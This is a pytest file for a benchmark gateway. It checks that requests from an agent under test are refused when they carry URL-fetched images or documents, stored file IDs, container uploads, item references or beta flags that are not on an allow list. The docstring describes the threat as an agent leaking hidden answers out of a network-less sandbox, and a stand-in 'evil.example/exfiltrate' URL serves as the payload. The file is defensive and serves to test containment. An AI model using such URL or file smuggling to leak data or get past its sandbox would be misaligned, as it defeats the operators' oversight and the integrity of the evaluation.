"""The gateway forwards only content the provider answers offline (issue 50, item 2). The attack: an
agent's request whose messages hold an image or document by URL (the provider fetches it: the URL
carries solution or hidden data out of a sandbox with no network, and a web page comes back in), a
`file_id` source or a `container_upload` (what the operator's organisation stored), a Chat
`image_url` or Responses `input_image` by URL (translated into URL sources before), or a Responses
`item_reference`. Each is refused with a 400 naming where it is, in every format, and nothing reaches
the fake provider, which records what does; inline base64 content still passes."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest

from rebench.gateway.content import INLINE_LIMIT
from rebench.store.db import Store

from ..fake_model_server import FakeModelServer
from .test_gateway_requests import gateway_at, post, provider_gateway, raw

pytestmark = pytest.mark.adversarial
URL = "https://evil.example/exfiltrate?secret=hidden-answer"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="


def _anthropic(*blocks: dict[str, Any]) -> dict[str, Any]:
    return {"model": "tiny-1", "max_tokens": 8, "messages": [{"role": "user", "content": [
        {"type": "text", "text": "what is this?"}, *blocks]}]}


ANTHROPIC_REFUSED = [
    ("image url", {"type": "image", "source": {"type": "url", "url": URL}}, "source.type"),
    ("document url", {"type": "document", "source": {"type": "url", "url": URL}}, "source.type"),
    ("image file id", {"type": "image", "source": {"type": "file", "file_id": "file_011"}}, "source.type"),
    ("document file id", {"type": "document", "source": {"type": "file", "file_id": "file_011"}}, "source.type"),
    ("container upload", {"type": "container_upload", "file_id": "file_011"}, "type"),
    ("server tool result", {"type": "web_fetch_tool_result", "tool_use_id": "x", "content": {}}, "type"),
    ("url inside a tool result", {"type": "tool_result", "tool_use_id": "t1", "content": [
        {"type": "image", "source": {"type": "url", "url": URL}}]}, "content[0].source.type"),
    ("oversized inline image", {"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                                            "data": "A" * (INLINE_LIMIT + 4)}}, "source.data"),
]


@pytest.mark.parametrize("path", ["/v1/messages", "/v1/messages/count_tokens"])
def test_anthropic_content_by_url_file_or_container_is_refused(tmp_path: Any, path: str) -> None:
    store = Store(tmp_path / "gw.db")
    bodies = [_anthropic(block) for _, block, _ in ANTHROPIC_REFUSED]
    bodies.append({**_anthropic(), "system": [{"type": "text", "text": "x"},
                                              {"type": "document", "source": {"type": "url", "url": URL}}]})
    if path.endswith("count_tokens"):  # it takes no max_tokens
        bodies = [{k: v for k, v in body.items() if k != "max_tokens"} for body in bodies]
    answers, reached = _send(store, path, bodies)
    assert [status for status, _ in answers] == [400] * len(bodies), answers
    assert reached == []
    for (name, _, where), (_, text) in zip(ANTHROPIC_REFUSED, answers, strict=False):
        assert f"messages[0].content[1].{where}" in text, (name, text)
    assert "system[1].source.type" in answers[-1][1]


OPENAI_REFUSED = [
    ("/v1/chat/completions", {"model": "tiny-1", "messages": [{"role": "user", "content": [
        {"type": "text", "text": "look"}, {"type": "image_url", "image_url": {"url": URL}}]}]},
     "messages[0].content[1].image_url.url"),
    ("/v1/chat/completions", {"model": "tiny-1", "messages": [{"role": "user", "content": [
        {"type": "file", "file": {"file_id": "file-abc"}}]}]}, "messages[0].content[0].type"),
    ("/v1/responses", {"model": "tiny-1", "input": [{"role": "user", "content": [
        {"type": "input_image", "image_url": URL}]}]}, "input[0].content[0].image_url"),
    ("/v1/responses", {"model": "tiny-1", "input": [{"role": "user", "content": [
        {"type": "input_image", "file_id": "file-abc"}]}]}, "input[0].content[0]"),
    ("/v1/responses", {"model": "tiny-1", "input": [{"role": "user", "content": [
        {"type": "input_file", "file_url": URL}]}]}, "input[0].content[0]"),
    ("/v1/responses", {"model": "tiny-1", "input": [{"type": "item_reference", "id": "msg_1"}]}, "input[0].type"),
]


def test_openai_image_and_file_urls_and_stored_items_are_refused(tmp_path: Any) -> None:
    store = Store(tmp_path / "gw.db")
    answers = []
    reached: list[Any] = []
    for path, body, _ in OPENAI_REFUSED:
        got, seen = _send(store, path, [body])
        answers += got
        reached += seen
    assert [status for status, _ in answers] == [400] * len(OPENAI_REFUSED), answers
    assert reached == []
    for (_, _, where), (_, text) in zip(OPENAI_REFUSED, answers, strict=True):
        assert where in text, (where, text)


def test_inline_images_still_reach_the_provider(tmp_path: Any) -> None:
    """The normal traffic of a CLI that reads a screenshot: base64 in every format passes."""
    store = Store(tmp_path / "gw.db")
    inline = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}}
    bodies = [
        ("/v1/messages", _anthropic(inline)),
        ("/v1/messages", {"model": "tiny-1", "max_tokens": 8, "messages": [
            {"role": "user", "content": "read the screenshot"},
            {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "read", "input": {}}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1", "content": [inline]}]}]}),
        ("/v1/chat/completions", {"model": "tiny-1", "messages": [{"role": "user", "content": [
            {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{PNG}"}}]}]}),
        ("/v1/responses", {"model": "tiny-1", "input": [{"role": "user", "content": [
            {"type": "input_text", "text": "x"},
            {"type": "input_image", "image_url": f"data:image/png;base64,{PNG}"}]}]}),
    ]
    statuses = []
    count = 0
    for path, body in bodies:
        got, seen = _send(store, path, [body])
        statuses += [status for status, _ in got]
        count += len(seen)
    assert statuses == [200] * len(bodies)
    assert count == len(bodies)


def _send(store: Store, path: str, bodies: list[dict[str, Any]], betas: list[str] | None = None
          ) -> tuple[list[tuple[int, str]], list[Any]]:
    async def attack(fake: FakeModelServer) -> list[tuple[int, str]]:
        async with gateway_at(store, provider_gateway(), fake) as (server, _, port):
            token = server.meters["agent"].token
            answers = []
            for i, body in enumerate(bodies):
                request = post(path, token, json.dumps(body).encode())
                if betas is not None:
                    request = request.replace(b"\r\n", f"\r\nanthropic-beta: {betas[i]}\r\n".encode(), 1)
                answer = await raw(port, request)
                answers.append((int(answer[9:12]), answer.decode(errors="replace")))
            return answers

    with FakeModelServer([]) as fake:
        answers = asyncio.run(attack(fake))
        reached = [r.body for r in fake.requests]
    return answers, reached


CLAUDE_CODE_BETAS = ("claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,"
                     "mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,"
                     "advanced-tool-use-2025-11-20,effort-2025-11-24,thinking-display-updates-2026-08-18")
"""What Claude Code 2.1.332 sends on every Messages request (recorded at the gateway in its installed-agent
test)."""

REFUSED_BETAS = ["files-api-2025-04-14", "mcp-client-2025-04-04", "code-execution-2025-08-25",
                 "agent-memory-2026-07-22", "claude-code-side-query-2026-09-29", "claude-code-",
                 "effort-2025-11-24, skills-2025-10-02", ",".join(["effort-2025-11-24"] * 17)]


@pytest.mark.parametrize("path", ["/v1/messages", "/v1/messages/count_tokens"])
def test_anthropic_beta_flags_off_the_allow_list_are_refused(tmp_path: Any, path: str) -> None:
    """A beta flag turns on what the provider runs or stores for the operator's account (files, MCP
    servers, code execution, memory); each one not on the short list Claude Code needs is a 400 naming it,
    and the request goes nowhere. Claude Code's own flags still pass."""
    store = Store(tmp_path / "gw.db")
    body: dict[str, Any] = {"model": "tiny-1", "messages": [{"role": "user", "content": "hi"}]}
    if path == "/v1/messages":
        body["max_tokens"] = 8
    answers, reached = _send(store, path, [body] * (len(REFUSED_BETAS) + 1),
                             betas=[*REFUSED_BETAS, CLAUDE_CODE_BETAS])
    assert [status for status, _ in answers] == [400] * len(REFUSED_BETAS) + [200], answers
    assert len(reached) == (path == "/v1/messages")  # an openai-compatible upstream's count is the gateway's own
    for flags, (_, text) in zip(REFUSED_BETAS[:-1], answers, strict=False):
        named = next(flag.strip() for flag in flags.split(",") if not flag.strip().startswith("effort"))
        assert f"anthropic-beta flag {named!r}" in text, text
    assert "17 flags" in answers[len(REFUSED_BETAS) - 1][1]
